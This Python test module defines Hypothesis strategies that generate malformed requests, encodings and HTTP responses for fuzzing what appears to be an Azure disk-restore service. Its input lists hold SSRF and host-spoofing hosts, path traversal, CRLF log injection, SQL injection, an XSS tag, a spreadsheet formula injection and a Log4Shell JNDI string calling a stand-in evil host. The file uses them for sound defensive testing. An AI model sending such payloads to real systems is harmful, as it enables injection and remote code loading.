"""What hostile input is made of: texts, JSON and answers that break careless programs."""

import base64
import codecs
import gzip
import html
import json
from collections.abc import Callable
from typing import Any

from hypothesis import strategies as st

from tests import builders

HOSTS = (
    "management.azure.com.evil.example",
    "evil.example",
    "evil.example#.management.azure.com",
    "evil.example?.management.azure.com",
    "evil.example/.management.azure.com",
    "evil.example\\.management.azure.com",
    "management.azure.com@evil.example",
    "management.azure.com:443@evil.example",
    "user:password@management.azure.com",
    "management.azure.com:8443",
    "management.azure.com:0",
    "management.azure.com:99999",
    "management.azure.com%2f@evil.example",
    "management.azure.com%00.evil.example",
    "evil.example%2f.management.azure.com",
    "xn--mnagement-2ya.azure.com",
    "man\u0430gement.azure.com",  # a Cyrillic letter
    "management\u3002azure\u3002com.evil.example",
    "management.azure.com.",
    ".management.azure.com",
    "a..management.azure.com",
    "-.management.azure.com",
    "127.0.0.1",
    "169.254.169.254",
    "[::1]",
    "[::ffff:169.254.169.254]",
    "0x7f000001",
    "localhost",
    "",
)
TEXTS = (
    "",
    " ",
    "..",
    "../..",
    "%2e%2e",
    "%2f",
    "%252f",
    "%00",
    "\x00",
    "\r\nrequestId=forged status=Completed",
    "line\nline\u2028line\x85line",
    "\u202e reversed \u2066",
    "\ufeff",
    "\ud800",
    "\udfff\ud800",
    "\u212aelvin",
    "dis\u212as",
    "\uff0fsubscriptions",
    "\U0001f600" * 2_000,
    "\u00e9" * 40_000,
    "x" * 100_000,
    "eyJ" * 2_000,
    "https://" * 2_000,
    "bearer " * 2_000,
    "'; DROP TABLE Restores; --",
    "{{7*7}}${jndi:ldap://evil.example/a}",
    "=cmd|' /C calc'!A0",
    "<script>alert(1)</script>",
    "null",
    "true",
    "NaN",
    "-0",
    "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+23:59",
    "0002-01-01T00:00:00Z",
    "1601-01-01T00:00:00Z",
    "1899-12-31T00:00:00.0000000Z",
    "9999-12-31T23:59:59.9999999Z",
    "9999-12-31T23:59:59-23:59",
    "2026-11-21T02:00:00",
    "2026-W47-6",
    "Succeeded",
    "Failed",
    "Inprogress",
    "InProgress",
    "Completed",
    "CompletedWithWarnings",
    "Cancelled",
    "CloudInternalError",
    "CloudDosTimeboudLimitReached",
    "UserErrorSameNameDiskAlreadyExists",
    builders.INSTANCE,
    builders.disk("other"),
    builders.disk("hr", "/subscriptions/99999999-0000-0000-0000-000000000000/resourceGroups/hr"),
    *(f"https://{host}/subscriptions/x?t=1&c=abcdefghijkl&s=mnopqrstuvwx" for host in HOSTS),
)
NUMBERS = (0, -1, 1, 7, 2**31, -(2**63), 10**400, 1e308, -0.0)

nasty_text = st.one_of(st.sampled_from(TEXTS), st.text(max_size=60))


def _scalars() -> st.SearchStrategy[Any]:
    return st.one_of(st.none(), st.booleans(), st.integers(), st.sampled_from(NUMBERS), nasty_text)


nasty_json = st.recursive(
    _scalars(),
    lambda inner: st.one_of(
        st.lists(inner, max_size=4), st.dictionaries(nasty_text, inner, max_size=4)
    ),
    max_leaves=8,
)


# --------------------------------------------------------------------------------- messages

_NAMES = (
    "requestId",
    "backupInstanceId",
    "targetDiskId",
    "targetResourceGroupId",
    "targetDiskName",
    "recoveryPointId",
    "pointInTime",
    "validateOnly",
    "requestedBy",
    "reason",
    "correlationId",
)


@st.composite
def spoiled_ids(draw: st.DrawFn, good: str) -> str:
    """An ARM id with something wrong in it, or right in an unusual way."""
    segments = good.split("/")
    at = draw(st.integers(0, len(segments) - 1))
    how = draw(st.integers(0, 5))
    if how == 0:
        segments[at] = draw(nasty_text)
    elif how == 1:
        segments.insert(at, draw(nasty_text))
    elif how == 2:
        del segments[at]
    elif how == 3:
        segments[at] = segments[at].swapcase()
    elif how == 4:
        segments[at] += draw(nasty_text)
    else:
        segments = [draw(st.sampled_from(("https://", "//"))) + draw(st.sampled_from(HOSTS)), good]
    return "/".join(segments)


def _values(name: str, instance: str) -> st.SearchStrategy[Any]:
    good: dict[str, Any] = {
        "requestId": "r1",
        "backupInstanceId": instance,
        "targetDiskId": builders.disk("disk-1-restored"),
        "targetResourceGroupId": builders.TARGET_GROUP,
        "targetDiskName": "restored",
        "recoveryPointId": "a05715f103bc4ec498a311801f3baf01",
        "pointInTime": "2026-11-21T10:00:00Z",
        "validateOnly": True,
    }
    choices = [nasty_json, nasty_text, st.text(max_size=2_000)]
    if name in good:
        choices += [st.just(good[name])] * 2
    if name in {"backupInstanceId", "targetDiskId", "targetResourceGroupId"}:
        choices += [spoiled_ids(good[name])] * 2
    return st.one_of(choices)


@st.composite
def requests(draw: st.DrawFn, instance: str) -> dict[str, Any]:
    """A request of which a few fields are not as they should be."""
    fields = builders.fields(backupInstanceId=instance)
    for name in draw(st.lists(st.sampled_from(_NAMES), max_size=3, unique=True)):
        fields[name] = draw(_values(name, instance))
    if draw(st.integers(0, 4)) == 0:
        fields.update(draw(st.dictionaries(nasty_text, nasty_json, max_size=3)))
    if draw(st.integers(0, 4)) == 0:
        fields.pop(draw(st.sampled_from(sorted(fields))))
    return fields


@st.composite
def withdrawals(draw: st.DrawFn) -> bytes:
    """A message that takes another back, or one that is nearly such a message."""
    fields: dict[str, Any] = {"withdraw": draw(st.sampled_from(("r1", "r1", "R1", "r2", "r1.x")))}
    for name in draw(st.lists(st.sampled_from(("withdraw", "requestedBy", "reason")), max_size=2)):
        fields[name] = draw(st.one_of(nasty_json, nasty_text))
    if draw(st.integers(0, 4)) == 0:
        fields.update(draw(st.dictionaries(st.sampled_from((*_NAMES, "$x")), nasty_json)))
    return _bytes(json.dumps(fields))


WRAPS: tuple[Callable[[bytes], bytes], ...] = (
    base64.b64encode,
    lambda body: base64.urlsafe_b64encode(body).rstrip(b"="),
    base64.encodebytes,
    lambda body: json.dumps(body.decode("latin-1")).encode(),
    lambda body: json.dumps(
        {"$content-type": "x", "$content": base64.b64encode(body).decode()}
    ).encode(),
    gzip.compress,
    lambda body: html.escape(body.decode("latin-1")).encode(),
    lambda body: body + b"\n" + body,
    lambda body: b"[" + body + b"]",
)


@st.composite
def bodies(draw: st.DrawFn, instance: str) -> bytes:
    """The bytes of a message, in every way that a sender may have of writing them."""
    if draw(st.integers(0, 5)) == 0:
        return draw(st.one_of(st.binary(max_size=400), nasty_text.map(_bytes)))
    value: Any = draw(requests(instance)) if draw(st.integers(0, 5)) else draw(nasty_json)
    text = json.dumps(value, ensure_ascii=draw(st.booleans()))
    if draw(st.integers(0, 9)) == 0:  # a field that stands twice
        text = text.replace("{", '{"requestId":"r2",', 1)
    body = _bytes(text)
    how = draw(st.integers(0, 9))
    if how == 0:
        body = codecs.BOM_UTF8 + body
    elif how == 1:
        body = text.encode(
            draw(st.sampled_from(["utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-7"])),
            "replace",
        )
    elif how == 2:
        body = body[: draw(st.integers(0, len(body)))]
    elif how == 3:
        body = draw(nasty_text.map(_bytes)) + body
    for _ in range(draw(st.sampled_from((0, 0, 0, 0, 1, 1, 2, 3)))):
        body = draw(st.sampled_from(WRAPS))(body)
    return body[: 64 * 1024]


def _bytes(text: str) -> bytes:
    return text.encode("utf-8", "surrogatepass")


# ----------------------------------------------------------------------------------- answers

_HEADERS = (
    "Azure-AsyncOperation",
    "Location",
    "Retry-After",
    "Content-Type",
    "Content-Encoding",
    "x-ms-correlation-request-id",
    "Set-Cookie",
    "WWW-Authenticate",
)
_HEADER_TEXTS = st.one_of(
    st.sampled_from(
        (
            "0",
            "1",
            "-1",
            "1e9",
            "9" * 5_000,
            "Wed, 21 Oct 2099 07:28:00 GMT",
            "Wed, 21 Oct 0001 07:28:00 -9999",
            "Wed, 99 Foo 99999 99:99:99",
            " 0",
            "gzip",
            "deflate, gzip",
            "application/json; charset=utf-16",
            "application/json; charset=punycode",
            "application/json; charset=rot13",
            "text/html",
            "session=abc; Domain=azure.com",
            "x" * 100_000,
        )
    ),
    st.sampled_from(TEXTS).map(lambda text: text.encode("latin-1", "replace").decode("latin-1")),
    st.text(st.characters(max_codepoint=255), max_size=40),
)
_STATUSES = (
    *(200, 201, 202, 203, 204, 206, 299),
    *(301, 302, 304, 307, 308, 400, 401, 403, 404, 405, 407, 408, 409, 410, 411, 412, 413),
    *(418, 421, 425, 426, 428, 429, 431, 451, 499, 500, 501, 502, 503, 504, 511, 599, 999),
)
_WHOLE_BODIES = st.one_of(
    st.sampled_from(
        (
            b"",
            b"null",
            b"[]",
            b"{}",
            b'"text"',
            b"<!DOCTYPE html><html></html>",
            b'{"value":null}',
            b'{"value":[null,1,"x",[],{}],"nextLink":1}',
            b"[" * 50_000,
            b'{"a":' * 5_000,
            b'{"n":' + b"9" * 10_000 + b"}",
            b'{"status":NaN,"error":Infinity}',
            b"\xff\xfe{\x00}\x00",
            b"\xef\xbb\xbf{}",
            b"\x1f\x8b\x08\x00garbage",
            b'{"error":{"code":"A","code":"B","message":["x"]}}',
            b'{"ErrorCode":{"x":[]},"Message":{"Value":17}}',
        )
    ),
    st.binary(max_size=60),
    nasty_json.map(lambda value: json.dumps(value).encode()),
)

Spoiling = tuple[Any, ...]
"""What becomes of one answer: data, so that Hypothesis can shrink it."""

spoilings: st.SearchStrategy[Spoiling] = st.one_of(
    st.tuples(st.just("status"), st.sampled_from(_STATUSES)),
    st.tuples(st.just("header"), st.sampled_from(_HEADERS), _HEADER_TEXTS),
    st.tuples(st.just("body"), _WHOLE_BODIES),
    st.tuples(st.just("status+body"), st.sampled_from(_STATUSES), _WHOLE_BODIES),
    st.tuples(st.just("value"), st.integers(0, 200), nasty_json),
    st.tuples(st.just("value"), st.integers(0, 200), nasty_text),
    st.tuples(st.just("drop"), st.integers(0, 200)),
    st.tuples(st.just("error"), st.sampled_from(_STATUSES), nasty_json, nasty_json),
    st.tuples(st.just("cut"), st.integers(0, 400)),
    st.tuples(
        st.just("broken"),
        st.sampled_from(("reset", "timeout", "connect", "chunked", "encoding", "os")),
    ),
)
